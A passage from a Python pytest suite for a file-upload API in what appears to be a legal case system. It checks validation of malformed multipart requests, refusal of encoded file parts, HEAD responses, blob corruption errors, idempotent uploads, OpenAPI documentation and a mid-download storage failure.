    status, problem = await post(text_part("purpose", "x" * 5000), file_part(PDF), query="")
    assert status == 422
    status, problem = await post(
        text_part("purpose", "evidence"), text_part("purpose", "evidence"), file_part(PDF), query=""
    )
    assert status == 422
    status, problem = await post(file_part(PDF), query="?purpose=selfie")
    assert (status, problem["errors"][0]["field"]) == (422, "purpose")
    status, problem = await post(file_part(PDF), query="?purpose=evidence&owner=someone")
    assert status == 422
    status, problem = await post(*[text_part(f"f{i}", "x") for i in range(40)])
    assert status == 422
    status, problem = await post(raw=b"--wrong-boundary\r\n\r\nxx")
    assert status in (400, 422)
    assert await StoredFile.all().count() == 0


async def test_encoded_file_parts_are_refused(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    body = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="a.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
        f"JVBERi0xLjcK\r\n--{BOUNDARY}--\r\n"
    ).encode()
    resp = await client.post(
        "/api/v1/files?purpose=evidence",
        data=body,
        headers={**headers, "Content-Type": f"multipart/form-data; boundary={BOUNDARY}"},
    )
    assert resp.status == 415


async def test_head_request_sends_headers_only(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    file_id = (await (await upload(client, headers, PDF)).json())["id"]
    resp = await client.head(f"/api/v1/files/{file_id}/content", headers=headers)
    assert resp.status == 200
    assert resp.headers["Content-Length"] == str(len(PDF))
    assert await resp.read() == b""


async def test_missing_or_damaged_blob_is_a_clean_error(
    client: Any, accounts: Any, app: web.Application
) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    out = await (await upload(client, headers, PDF)).json()
    path = app[SETTINGS].effective_blob_dir / out["sha256"][:2] / out["sha256"]
    path.write_bytes(PDF[:-1])
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert resp.status == 500
    assert resp.headers["Content-Type"].startswith("application/problem+json")
    path.unlink()
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert resp.status == 404


async def test_idempotent_upload_replays(client: Any, accounts: Any) -> None:
    _, headers = await accounts.headers(Role.LITIGANT)
    body, form_headers = multipart(file_part(PDF))
    h = {**headers, **form_headers, "Idempotency-Key": "upload-0001-abcdef"}
    first = await client.post("/api/v1/files?purpose=evidence", data=body, headers=h)
    second = await client.post("/api/v1/files?purpose=evidence", data=body, headers=h)
    assert first.status == second.status == 201
    assert (await first.json())["id"] == (await second.json())["id"]
    assert await StoredFile.all().count() == 1


async def test_openapi_documents_the_upload(client: Any) -> None:
    spec = await (await client.get("/api/v1/openapi.json")).json()
    post = spec["paths"]["/api/v1/files"]["post"]
    form = post["requestBody"]["content"]["multipart/form-data"]["schema"]
    assert form["properties"]["file"]["format"] == "binary"
    assert {"201", "401", "413", "415", "422"} <= set(post["responses"])
    assert "/api/v1/files/{file_id}/content" in spec["paths"]


async def test_storage_failure_mid_download_truncates(
    client: Any,
    accounts: Any,
    app: web.Application,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    import aiohttp

    from backend.storage.blobs import BlobReader

    _, headers = await accounts.headers(Role.LITIGANT)
    content = PDF + bytes(600 * 1024)
    out = await (await upload(client, headers, content)).json()
    store = app[BLOBS]
    real_open = store.open

    class Failing(BlobReader):
        def __init__(self, inner: BlobReader) -> None:
            self.inner, self.size, self.calls = inner, inner.size, 0

        async def __anext__(self) -> bytes:
            self.calls += 1
            if self.calls > 1:
                raise OSError("disk went away")
            return await self.inner.__anext__()

        async def aclose(self) -> None:
            await self.inner.aclose()

    async def failing_open(sha256: str) -> BlobReader:
        return Failing(await real_open(sha256))

    monkeypatch.setattr(store, "open", failing_open)
    resp = await client.get(f"/api/v1/files/{out['id']}/content", headers=headers)
    assert resp.status == 200 and resp.headers["Content-Length"] == str(len(content))
    with pytest.raises(aiohttp.ClientPayloadError):
        await resp.read()
    assert "download of blob" in caplog.text
